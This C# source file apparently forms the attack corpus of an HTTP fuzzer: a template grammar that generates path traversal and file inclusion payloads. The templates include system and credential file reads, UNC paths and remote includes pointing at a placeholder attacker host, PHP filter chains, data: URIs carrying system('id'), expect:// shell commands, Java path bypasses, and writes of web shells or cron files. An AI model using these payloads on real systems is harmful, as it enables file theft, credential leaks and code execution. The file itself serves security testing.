namespace Weir.Http.Corpus.Attacks;

/// <summary>Absolute paths, shares, stream wrappers, application servers, proxies and archives.</summary>
/// <remarks>OWASP WSTG-ATHZ-01, WSTG-INPV-11, CAPEC-126, CAPEC-139, CWE-36, CWE-98.</remarks>
internal static class TraversalPlaces
{
    public const string Text = """"
        ¶ ---- absolute paths ----
        §absolute
        6× «unixfile»
        2× «unixfile»«cut»
        2× «winfile»
        2× «winfile→slashed2»
        «winfile»«cut»
        «unixfile→url»
        «unixfile→urltwice»
        /«unixfile»
        /.«unixfile»
        «unixfile→slashruns»
        "«unixfile»"
        \«unixfile→backslash»
        file:«¦/¦//¦///»«unixfile»
        §windows
        5× «wup*1-9»«winrel→backslash»
        2× «wlead»«wup*1-9»«winrel→backslash»
        2× «wup*2-9»«winrel→backslash»«cut»
        «wup*2-9»«unixrel→backslash»
        «lead»«wup*2-9»«unixrel→backslash»«cut?»
        «wtrick*2-8»«winrel→backslash»
        «wup*2-8»«winrel»
        «wup*3-10»
        §wup
        ..\
        §wlead
        \
        /
        .\
        «word»\
        C:\«word»\
        §wtrick
        2× ....\\
        ..\\
        ..\/
        .\..\
        ...\
        ..\.\
        %2e%2e\
        .%5c..
        ..\..\
        \\..\
        §unc
        \\«evilhost»\«rand»\«rand».«ext»
        \\localhost\c$\«winrel→backslash»
        \\«ip»\«c$¦admin$¦share»\«winrel→backslash»
        //«evilhost»/«rand»/«rand».«ext»
        \\.\«GLOBALROOT\Device\HarddiskVolumeShadowCopy1\windows\system32\config\sam¦c:\boot.ini¦PhysicalDrive0»
        \\?\«winfile»
        \\127.0.0.1\«c$¦admin$»\windows\win.ini
        %5c%5c«evilhost»%5c«rand»
        /..\..\..\«winrel→backslash»
        «winfile»::$DATA
        «con¦nul¦aux¦prn¦com1¦lpt1»«/../¦\..\»«winrel»
        ..\..\..\«nul¦con¦aux».«ext»

        ¶ ---- stream wrappers ----
        §wrapper
        5× php://filter/«¦read=»«chain»/resource=«resfile»
        2× «phplit→case»://filter/«chain»/resource=«resfile»
        php://filter/«chain»|«chain»|«chain»/resource=«resfile»
        php://filter/convert.iconv.«utf-8.utf-16¦UTF8.CSISO2022KR¦UTF-8/UTF-7¦L1.UCS-4»«filters*1-6»/resource=«resfile»
        php://filter/zlib.«deflate¦inflate»/«chain»/resource=«resfile»
        php://«input¦stdin¦fd/«#0-9»¦memory¦output¦temp»
        zip://«word».«zip¦jpg»%23«word»«¦.php»
        phar://«¦./»«word».«phar¦jpg¦zip»/«word»«¦.php»
        data:«¦//»text/plain«¦;base64»,«<?php system('id');?>¦PD9waHAg«rand→b64»¦«rand→b64»»
        data:;base64,PD9waHAg«rand→b64»
        expect://«shellcmd»
        «glob¦compress.zlib¦compress.bzip2¦ogg¦rar¦ssh2.sftp://user:pass@«ip»»://«unixfile»
        file://«¦localhost»«unixfile»
        classpath:«application.properties¦application.yml¦../«word».xml»
        jar:file:«unixfile»!/«word»
        «netdoc¦vfs¦res¦resource¦bundle¦view-source:file»://«unixfile»
        §phplit
        php
        §chain
        5× convert.base64-encode
        2× string.rot13
        «string.toupper¦string.tolower¦string.strip_tags¦convert.base64-decode¦convert.quoted-printable-encode¦zlib.deflate¦bzip2.compress¦convert.iconv.UTF-8.UTF-16LE¦mcrypt.tripledes»
        string.rot13/convert.base64-encode
        §filters
        |convert.«iconv.«UTF8.UTF16LE¦CP866.CSUNICODE¦UTF16.EUCTW¦L1.T.618BIT¦ISO2022KR.UTF16¦INIS.UTF16¦R9.ISO6937¦UTF8.UTF7¦UTF16LE.UTF-16BE¦CSIBM1133.IBM943¦GBK.BIG5»¦base64-decode¦base64-encode»
        §resfile
        3× index«¦.php»
        2× «unixfile»
        2× «config¦wp-config¦admin¦login¦db¦settings¦functions¦flag».php
        «up*1-5»«word».php
        «up*1-6»«unixrel»
        http://«evilhost»/«rand»
        data:,«rand»

        ¶ ---- application servers, proxies and archives ----
        §javaup
        3× /«word»/..;/«word»
        3× «jup*1-5»«WEB-INF/web.xml¦META-INF/MANIFEST.MF¦manager/html¦WEB-INF/classes/«word».properties¦admin/«word»¦host-manager/html»
        /«word»/«jup*1-4»«unixrel»
        /%2e/WEB-INF/web.xml
        /.//WEB-INF/web.xml
        /%252e%252e/WEB-INF/web.xml
        «.¦/./¦/%2e/¦//¦/%5c¦/%u002e/»WEB-INF/web.xml
        /«static¦assets¦img¦files»../««word»¦.git/config¦.env»
        /«static¦assets¦img¦files»../«up*0-4»«unixrel»
        /cgi-bin/«encup*2-6»bin/sh
        /icons/«encup*3-8»«unixrel»
        /@fs/«unixrel»?«raw??¦import&raw??¦url»
        /_next/«up*3-8»«unixrel»
        /«word»/%5c../«unixrel»
        /«word»//«up*2-6»«unixrel»
        /«plugins/«word»¦public/plugins/«alertlist¦graph¦mysql¦text¦table»»/«up*4-12»«unixrel»
        /«api/v«#1-3»¦«word»»/..%2f..%2f«word»
        /..;/«manager/html¦admin¦actuator/env¦«word»»
        /;/«admin¦WEB-INF/web.xml¦«word»»
        /«word»;/../«admin¦WEB-INF/web.xml»
        «up*2-9»tmp/«rand».«php¦jsp¦sh»
        «up*1-8»«word».«php¦jsp¦aspx¦war»
        «up*1-6»«.ssh/authorized_keys¦webapps/ROOT/«rand».jsp¦etc/cron.d/«rand»¦var/www/html/«rand».php¦inetpub/wwwroot/«rand».aspx»
        §jup
        3× ..;/
        2× %2e%2e;/
        ..%3b/
        ..;«word»/
        /;/..
        ..;a=b/

        §parameter
        8× «param»=«corepath»
        2× ?«param»=«corepath»
        /«word».«php¦jsp¦asp¦cgi¦pl¦aspx¦do»?«param»=«corepath»
        /«download¦view¦file¦static¦image¦api/files¦export»«?«param»=¦/»«corepath»
        «param»=«corepath»&«param»=«word»
        «word».«php¦cgi¦jsp»?«param»=«corepath»
        §corepath
        4× «plainup»
        2× «encodedup»
        2× «absolute»
        «wrapper»
        «windows»
        §context
        {"«param»":"«corepath→json»"}
        filename="«corepath»"
        Content-Disposition: form-data; name="«word»"; filename="«plainup»"
        <«word»>«corepath»</«word»>
        "«plainup»"
        [«plainup»]
        \include{«unixfile»}
        \input{«unixfile»}
        {{include '«unixfile»'}}
        «include¦require¦file_get_contents¦readfile¦fopen¦show_source¦LOAD_FILE»('«corepath»')
        ../«up*2-6»«unixrel»&«param»=«word»
        «plainup»/«word»
        «plainup»|«word»
        «plainup»;«word»
        «plainup→b64»
        """";
}
